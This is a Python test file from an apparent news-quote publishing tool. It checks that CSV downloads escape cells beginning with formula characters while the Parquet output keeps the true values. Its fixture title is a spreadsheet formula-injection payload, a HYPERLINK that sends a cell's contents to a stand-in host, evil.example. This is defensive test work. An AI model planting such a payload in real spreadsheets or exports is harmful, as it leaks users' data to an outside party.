"""Spreadsheet formula injection: a page served over loopback whose title and
quotes start like formulas is ingested and published; the CSV download's cells
are neutralised as OWASP recommends, the Parquet file keeps the true values.

Issue 14 item 5 (a row in docs/reliability.md).
"""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
from ingesting import ingest_page
from publish_data import build

from store import db

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Talks")'
PAGE = (
    f"<html><head><title>{TITLE}</title></head><body><article><h1>{TITLE}</h1>"
    '<p>"+1 for the talks, and we stand ready to resume them next week," the '
    "foreign minister of Norway said on Monday.</p>"
    '<p>"-2 percent is what the sanctions cost the economy of the region this '
    'year," Finance Minister Anna Berg told reporters in Oslo.</p>'
    '<p>"@everyone should read the communiqué before the summit on Friday," '
    "the spokesperson for the ministry added in a statement.</p>"
    "</article></body></html>"
).encode()
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_that_read_as_formulas_get_a_quote_and_parquet_keeps_them(
    nlp, tmp_path: Path
) -> None:
    database = tmp_path / "c.duckdb"
    ingest_page(database, nlp, PAGE)
    conn = db.open_store(database)
    try:
        build(conn, tmp_path / "site")
    finally:
        conn.close()

    data = tmp_path / "site" / "data"
    (month_csv,) = (data / "statements").glob("*.csv")  # one page, one month
    with month_csv.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    parquet_file = month_csv.with_suffix(".parquet")
    parquet = duckdb.sql(f"SELECT * FROM read_parquet('{parquet_file}')").fetchall()
    assert len(rows) == len(parquet) >= 2
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert {row["article_title"] for row in rows} == {"'" + TITLE}
    true_titles = duckdb.sql(
        f"SELECT DISTINCT article_title FROM read_parquet('{parquet_file}')"
    ).fetchall()
    assert true_titles == [(TITLE,)]
